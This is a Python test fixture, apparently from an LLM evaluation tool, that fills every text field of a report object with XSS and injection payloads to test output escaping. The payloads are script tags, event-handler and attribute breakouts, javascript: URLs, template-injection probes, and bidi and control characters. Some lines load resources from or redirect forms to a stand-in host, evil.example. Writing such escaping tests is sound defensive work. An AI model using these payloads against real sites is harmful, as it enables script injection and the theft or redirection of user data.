"""An experiment in which everything that somebody else wrote tries to become markup, script or a broken page."""

from __future__ import annotations

from testbench.schema.models import (
    EvaluatedExperiment,
    EvaluatedScenario,
    EvaluatedStep,
    Evaluation,
    Failure,
    Metric,
    Reference,
    Result,
    RunRecord,
    ToolCall,
    Turn,
)
from tests.support.report_factory import START

CANARY = "window.canary=1"
PAYLOADS = (
    f"<script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    f'<img src=x onerror="{CANARY}">',
    f"<svg onload={CANARY}>",
    f'"><img src=x onerror={CANARY}>',
    f"' onmouseover='{CANARY}' autofocus onfocus='{CANARY}",
    f"</noscript></style></title></textarea><script>{CANARY}</script>",
    f"<!--<script>{CANARY}//-->",
    f"{{{{ 7*7 }}}} {{% raw %}} ${{{CANARY}}} [[constructor.constructor('{CANARY}')()]]",
    f"javascript:{CANARY}",
    f"<a href=javascript:{CANARY}>click</a>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f"<style>@import 'http://evil.example/{CANARY}'</style>",
    f"<base href='http://evil.example/'><link rel=stylesheet href=//evil.example><form action=//evil.example>{CANARY}",
    f"line\u2028separator\u2029{CANARY}",
    f"left\u202eright{CANARY}\u2066\u202c",
    f"\x00\x07\x1b[31m{CANARY}\x1b[0m\x7f\ufeff",
    f"tags \U000e0041\U000e0042 zero\u200bwidth {CANARY}",
    f"&lt;script&gt;{CANARY}&amp;",
    f"constructor __proto__ {CANARY}",
)
BROKEN_CHARACTER = "half \ud800 a character"
LONG = "A very long answer. " * 55_000


def hostile_experiment() -> EvaluatedExperiment:
    """One conversation per payload, with the payload in every field that holds text; then one with a huge answer."""
    scenarios = [_scenario(number, payload) for number, payload in enumerate(PAYLOADS)]
    first = PAYLOADS[2]
    return EvaluatedExperiment(
        id=first,
        llm_as_a_judge_model=first,
        scenarios=(*scenarios, _long_scenario()),
        run=RunRecord(
            agent_url=first,
            agent_name=first,
            agent_version=first,
            workflow_name=first,
            testbench_version=first,
            started_at=START,
            wall_seconds=1,
        ),
    )


def _scenario(number: int, payload: str) -> EvaluatedScenario:
    call = ToolCall(name=payload, args={payload: payload})
    failed = Failure(kind=payload, message=payload, raw=payload)
    metric = Metric(metric_name=payload, threshold=0.5, parameters={payload: payload})
    evaluations = (
        Evaluation(metric=metric, result=Result(result="fail", score=0.1, reason=payload, details={payload: payload})),
        Evaluation(metric=metric, result=Result(result="error", error=failed, judge_model=payload)),
    )
    steps = (
        EvaluatedStep(
            id=f"{payload}{number}",
            input=payload,
            reference=Reference.model_validate(
                {
                    "response": payload,
                    "tool_calls": (call,),
                    "topics": (payload,),
                    "retrieved_contexts": (payload,),
                    "reference_contexts": (payload,),
                    payload: payload,
                }
            ),
            custom_values={payload: [payload, BROKEN_CHARACTER, float("nan")]},
            metrics=(metric,),
            turns=(
                Turn(type="human", content=payload),
                Turn(type="agent", content=payload, tool_calls=(call,)),
                Turn.model_validate({"type": "tool", "content": f'{{"{number}": 1', payload: payload}),
            ),
            context_id=payload,
            task_id=payload,
            span_id=payload,
            evaluations=evaluations,
        ),
        EvaluatedStep(id=f"failed {payload}{number}", input=payload, status="error", error=failed),
    )
    return EvaluatedScenario(id=f"scenario {payload}{number}", name=payload, trace_id=payload, steps=steps)


def _long_scenario() -> EvaluatedScenario:
    turns = (Turn(type="human", content="Tell me everything."), Turn(type="agent", content=LONG))
    step = EvaluatedStep(id="stp_long", input="Tell me everything.", turns=turns, reference=Reference(response="Less."))
    return EvaluatedScenario(name="a megabyte", steps=(step,))
